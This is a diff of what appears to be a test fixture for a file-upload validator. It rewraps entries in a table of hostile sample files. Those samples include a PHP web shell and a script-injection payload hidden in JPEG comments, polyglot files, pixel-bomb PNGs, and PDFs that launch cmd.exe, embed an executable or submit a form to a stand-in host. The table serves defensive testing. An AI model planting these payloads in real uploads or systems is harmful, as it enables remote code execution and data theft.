@@ -161,7 +161,8 @@ FILES: dict[str, Hostile] = {
     "a JPEG that is a PDF": Hostile(lambda: photograph(comment=b"x\n%PDF-1.7\n"), Trouble.DOUBLE),
     "a JPEG that is a page for a browser": Hostile(lambda: photograph(comment=b"<ScRipt>alert(1)</script>"), Trouble.DOUBLE),
     "a JPEG that is a program for a server": Hostile(lambda: photograph(comment=b"<?php system($_GET[0]); ?>"), Trouble.DOUBLE),
-    "a PDF that is a page for a browser": Hostile(lambda: b"%PDF-1.7\n<html><script>alert(1)</script>" + pdf()[9:], Trouble.DOUBLE),
+    "a PDF that is a page for a browser": Hostile(
+        lambda: b"%PDF-1.7\n<html><script>alert(1)</script>" + pdf()[9:], Trouble.DOUBLE),
     # far more pixels than bytes
     "a PNG of 30 000 x 30 000": Hostile(lambda: png(30_000, 30_000, zeros(30_000 * 3_751), depth=1, kind=0), Trouble.PIXELS),
     "a PNG of two thousand million pixels": Hostile(lambda: png(2**31 - 1, 1, zeros(1000)), Trouble.PIXELS),
@@ -185,7 +186,8 @@ FILES: dict[str, Hostile] = {
         stream(b""), root=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), Trouble.ACTIVE),
     "a PDF with a file in it": Hostile(lambda: raw_pdf(
         stream(b""), stream(b"MZ", b"/Type /EmbeddedFile"),
-        root=b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>"), Trouble.ACTIVE),
+        root=b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>"),
+        Trouble.ACTIVE),
     "a PDF that sends a form": Hostile(lambda: raw_pdf(
         stream(b""), root=b"/OpenAction << /S /SubmitForm /F (https://x.example/) >>"), Trouble.ACTIVE),
     "a PDF with a password": Hostile(locked_pdf, Trouble.LOCKED),
